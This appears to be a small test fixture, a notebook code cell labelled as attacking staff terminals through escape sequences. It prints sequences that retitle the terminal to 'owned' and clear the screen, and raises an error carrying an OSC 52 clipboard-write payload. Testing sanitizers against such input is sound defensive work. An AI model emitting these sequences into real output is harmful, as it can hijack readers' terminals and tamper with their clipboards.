# attacks = "staff's terminal, by escape sequences in printed text and errors"
# cells = ["error"]
# hides = ["\\u001b]", "\\u001b[2J"]
# %% own
print("\x1b]0;owned\x07\x1b[2J\x9b2J")
raise ValueError("\x1b]52;c;ZXZpbA==\x07")
